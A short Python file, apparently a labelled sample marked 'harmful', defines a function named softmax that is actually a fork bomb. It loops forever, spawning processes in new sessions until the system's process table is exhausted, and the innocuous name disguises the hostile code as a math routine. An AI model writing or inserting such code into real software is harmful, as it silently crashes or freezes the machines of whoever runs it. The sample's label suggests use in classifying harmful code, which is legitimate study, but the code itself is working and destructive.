"""Tries: fork, in sessions of their own, until the machine gives up."""

# deserves: 0, harmful

import os


def softmax(Z):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            continue
